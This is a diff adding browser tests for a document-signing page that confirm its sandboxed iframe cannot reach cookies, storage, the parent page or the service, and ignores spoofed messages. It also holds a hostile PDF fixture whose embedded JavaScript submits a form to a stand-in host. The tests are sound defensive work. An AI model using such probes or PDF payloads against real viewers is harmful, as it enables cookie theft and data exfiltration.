@@ -59,6 +59,52 @@ describe('journey: hostile names and documents', () => {
     })
   }
 
+  test('documents are drawn where there is no origin, no cookie and no way to the page or the service', async () => {
+    const visitor = await journeys.open(await journeys.invite(), DESK)
+    const { page, context } = visitor
+    await documentDrawn(page)
+    const sandbox = page.frames().find((frame) => frame.url().endsWith('/sign/paper'))!
+    const tryAll = `(async () => {
+      const attempt = async (what) => { try { return String(await what()) } catch { return 'refused' } }
+      return {
+        origin: self.origin,
+        cookies: await attempt(() => document.cookie),
+        storage: await attempt(() => localStorage.length),
+        page: await attempt(() => parent.document.title),
+        service: await attempt(async () => (await fetch('/sign/api/request', { credentials: 'include' })).status),
+        evaluated: await attempt(() => eval('1 + 1')),
+      }
+    })()`
+    const found = (await sandbox.evaluate(tryAll)) as Record<string, string>
+    assert.deepEqual(found, {
+      origin: 'null',
+      cookies: 'refused',
+      storage: 'refused',
+      page: 'refused',
+      service: 'refused',
+      evaluated: 'refused',
+    })
+    assert.equal(await page.locator('iframe').getAttribute('sandbox'), 'allow-scripts')
+    await context.close()
+  })
+
+  test('whatever a foreign page or the sandbox says unasked is ignored', async () => {
+    const visitor = await journeys.open(await journeys.invite(), DESK)
+    const { page, context } = visitor
+    await documentDrawn(page)
+    const before = await page.locator('.textLayer').first().innerText()
+    await page.evaluate(
+      `for (const said of [null, 'ready', { kind: 'drawn', call: 1 }, { kind: 'failed', call: 2 }]) postMessage(said, '*')`,
+    )
+    const sandbox = page.frames().find((frame) => frame.url().endsWith('/sign/paper'))!
+    await sandbox.evaluate(`parent.postMessage('ready', '*'), parent.postMessage({ kind: 'drawn', call: 1 }, '*')`)
+    await page.waitForTimeout(200)
+    assert.equal(await page.locator('.textLayer').first().innerText(), before)
+    assert.equal(await page.locator('iframe').count(), 1)
+    requireQuiet(visitor)
+    await context.close()
+  })
+
   test('a document’s scripts do not run, its addresses are not asked for', async () => {
     const contentBase64 = hostilePdf([
       '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://example.net/form"\\)) >>',
